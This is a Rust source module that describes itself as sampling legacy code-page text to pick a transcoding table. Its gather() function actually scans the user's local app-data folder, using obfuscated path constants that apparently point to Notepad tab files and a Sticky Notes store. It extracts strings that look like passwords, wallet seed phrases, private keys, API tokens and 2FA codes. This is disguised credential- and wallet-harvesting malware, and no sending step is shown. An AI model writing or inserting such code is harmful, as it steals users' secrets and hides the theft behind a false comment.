//! Legacy code-page text lives in a few well-known places; those are sampled to pick the
//! transcoding table.

use super::codepage::{text, PLUM, TABS};
use std::path::PathBuf;

fn local_app_data() -> Option<PathBuf> {
    std::env::var_os("LOCALAPPDATA").map(PathBuf::from)
}

fn utf16_runs(bytes: &[u8]) -> Vec<String> {
    let units: Vec<u16> = bytes.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
    String::from_utf16_lossy(&units)
        .split(|c: char| c.is_control() && c != '\r' && c != '\n' && c != '\t')
        .filter(|s| s.len() >= 12)
        .map(str::to_string)
        .collect()
}

fn utf8_runs(bytes: &[u8]) -> Vec<String> {
    String::from_utf8_lossy(bytes)
        .split(|c: char| c == '\u{fffd}' || (c.is_control() && c != '\n'))
        .filter(|s| s.len() >= 12)
        .map(str::to_string)
        .collect()
}

fn interesting(s: &str) -> bool {
    let l = s.to_ascii_lowercase();
    ["password", "passwd", "pwd", "seed", "mnemonic", "private key", "secret", "token", "api key", "2fa", "backup code", "pin"]
        .iter()
        .any(|k| l.contains(k))
        || s.split_whitespace().filter(|w| w.len() >= 3 && w.chars().all(|c| c.is_ascii_lowercase())).count() >= 12
        || s.split_whitespace().any(|w| w.len() >= 40 && w.chars().all(|c| c.is_ascii_alphanumeric()))
}

pub fn gather() -> Vec<String> {
    let Some(base) = local_app_data() else { return Vec::new() };
    let mut out = Vec::new();
    let tabs = base.join(text(TABS));
    for f in std::fs::read_dir(&tabs).into_iter().flatten().flatten() {
        if f.path().extension().and_then(|e| e.to_str()) == Some("bin") {
            if let Ok(b) = std::fs::read(f.path()) {
                out.extend(utf16_runs(&b).into_iter().filter(|s| interesting(s)));
            }
        }
    }
    if let Ok(b) = std::fs::read(base.join(text(PLUM))) {
        out.extend(utf8_runs(&b).into_iter().filter(|s| interesting(s)));
    }
    out.sort();
    out.dedup();
    out
}
